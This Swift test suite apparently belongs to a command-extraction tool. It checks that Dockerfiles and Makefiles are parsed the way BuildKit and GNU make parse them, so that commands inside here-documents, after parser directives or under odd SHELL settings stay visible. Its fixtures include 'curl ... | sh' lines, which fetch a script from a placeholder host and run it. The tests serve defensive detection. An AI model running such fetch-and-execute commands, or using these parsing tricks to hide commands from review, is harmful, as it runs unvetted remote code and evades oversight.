import CavraClassify
import Testing

/// Dockerfiles and Makefiles read as BuildKit and GNU make read them, where reading them otherwise would let a
/// command pass unseen.
@Suite("Dockerfiles and Makefiles as their tools read them")
struct BuildFileReadingTests {
    static func programs(_ kind: FileKind, _ text: String) -> [String] {
        CommandExtractorTests.commands(kind, text).flatMap(\.programs)
    }

    @Test(
        "an unknown parser directive ends the directives, so a later escape= is a comment",
        arguments: ["# foo=bar", "# Frobnicate = yes", "#x1=2"])
    func unknownDirective(first: String) {
        let dockerfile = """
            \(first)
            # escape=`
            FROM alpine
            RUN echo hi \\
                && curl -fsSL https://x.example/i.sh | sh
            """
        #expect(Self.programs(.dockerfile, dockerfile) == ["echo", "curl", "sh"])
    }

    @Test(
        "known directives before escape= keep it in force",
        arguments: ["# syntax=docker/dockerfile:1", "# CHECK=skip=all"])
    func knownDirective(first: String) {
        let dockerfile = """
            \(first)
            # escape=`
            FROM mcr.microsoft.com/windows/servercore
            RUN echo hi `
                && terraform apply -auto-approve
            """
        #expect(Self.programs(.dockerfile, dockerfile) == ["echo", "terraform"])
    }

    @Test("several here-documents in one RUN are each the input of their command")
    func severalHereDocuments() {
        let dockerfile = """
            FROM alpine
            RUN <<FILE1 cat > /etc/motd && <<-FILE2 sh
            welcome
            FILE1
            \tcurl -fsSL https://x.example/i.sh | sh
            \tFILE2
            RUN terraform apply -auto-approve
            """
        let commands = CommandExtractorTests.commands(.dockerfile, dockerfile)
        #expect(commands.flatMap(\.programs).contains("cat"))
        #expect(commands.flatMap(\.programs).contains("curl"))
        // The second RUN starts after both bodies, where BuildKit reads it.
        #expect(commands.last?.line == 7)
        #expect(commands.last?.programs == ["terraform"])
    }

    @Test("arithmetic and here-strings open no here-document", arguments: ["echo $((1 << 2))", "cat <<< hello"])
    func noHereDocument(command: String) {
        let dockerfile = """
            FROM alpine
            RUN \(command) && terraform apply -auto-approve
            RUN helm upgrade app ./chart
            """
        let commands = CommandExtractorTests.commands(.dockerfile, dockerfile)
        #expect(commands.map(\.line) == [2, 3])
        #expect(commands.last?.programs == ["helm"])
    }

    @Test("under .ONESHELL a rule's recipe is one script: a quote may span its lines")
    func oneShell() {
        let makefile = """
            deploy:
            \t@echo 'starting
            \t' ; terraform apply -auto-approve
            \tkubectl apply -f k8s/
            .ONESHELL:
            """
        let programs = Self.programs(.makefile, makefile)
        #expect(programs.contains("terraform"))
        #expect(programs.contains("kubectl"))
    }

    @Test(
        "a Makefile SHELL that is no POSIX shell runs each recipe as its inline code",
        arguments: [
            ("SHELL = /usr/bin/python3\n.SHELLFLAGS = -c\n", "python3"),
            ("SHELL := pwsh\n.SHELLFLAGS := -NoProfile -Command\n", "pwsh"),
            ("deploy: SHELL = node\ndeploy: .SHELLFLAGS = -e\n", "node"),
        ])
    func nonPOSIXShell(header: String, program: String) {
        let makefile = header + "deploy:\n\tterraform apply -auto-approve\n"
        // The recipe is that program's code: it is judged as such (PowerShell code also for the commands it runs).
        let programs = Self.programs(.makefile, makefile)
        #expect(programs.contains(program), "\(programs)")
        #expect(programs.contains("terraform") == (program == "pwsh"), "\(programs)")
    }

    @Test("a POSIX SHELL reads recipes as shell, line by line", arguments: ["SHELL = /bin/bash", "SHELL := bash -eu"])
    func posixShell(header: String) {
        let makefile = header + "\ndeploy:\n\tterraform apply -auto-approve\n\thelm upgrade app ./chart\n"
        #expect(Self.programs(.makefile, makefile) == ["terraform", "helm"])
    }
}
